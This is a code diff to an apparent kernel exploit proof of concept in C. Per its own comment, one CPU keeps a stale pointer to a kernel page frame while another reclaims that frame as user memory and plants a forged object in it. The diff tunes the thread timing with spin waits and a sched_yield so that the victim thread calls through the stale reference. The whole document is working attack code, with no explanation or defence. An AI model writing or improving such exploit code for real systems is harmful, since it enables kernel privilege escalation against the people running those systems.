@@ -2,6 +2,8 @@
  * One processor remembers where a frame of the kernel's was; another makes that frame user memory
  * and puts a forged object there; the first one's memory still leads to it.
  */
+#include <sched.h>
+
 #include "attack.h"
 
 enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
@@ -14,6 +16,8 @@ static struct attack_frame frame;
 static void company(void *unused)
 {
 	(void)unused;
+	attack_await(&stage, STAGE_WARMED, AWAIT_YIELD);
+	attack_await(&stage, STAGE_FORGED, AWAIT_SPIN);
 	attack_await(&stage, STAGE_CALLED, AWAIT_YIELD);
 }
 
@@ -21,9 +25,11 @@ static void victim(void *unused)
 {
 	(void)unused;
 	attack_await(&stage, STAGE_WARM, AWAIT_YIELD);
-	attack_check("vuln_warm", bw_vuln_warm(frame.synonym));
+	attack_warm(frame.synonym);
 	attack_tell(&stage, STAGE_WARMED);
-	attack_await(&stage, STAGE_FORGED, AWAIT_YIELD);
+	attack_await(&stage, STAGE_FORGED, AWAIT_SPIN);
+	/* to the other thread and back */
+	sched_yield();
 	attack_check("vuln_call", bw_vuln_call(frame.synonym));
 	attack_tell(&stage, STAGE_CALLED);
 }
@@ -40,7 +46,6 @@ int main(void)
 	attack_thread(CPU_OF_VICTIM, company, NULL);
 
 	attack_frame_predict(&leak, &frame);
-	attack_say("frame 0x%lx is the kernel's, and will be ours next", frame.pfn);
 	attack_tell(&stage, STAGE_WARM);
 	attack_await(&stage, STAGE_WARMED, AWAIT_YIELD);
 	attack_say("CPU %d has read it at 0x%lx", CPU_OF_VICTIM, frame.synonym);
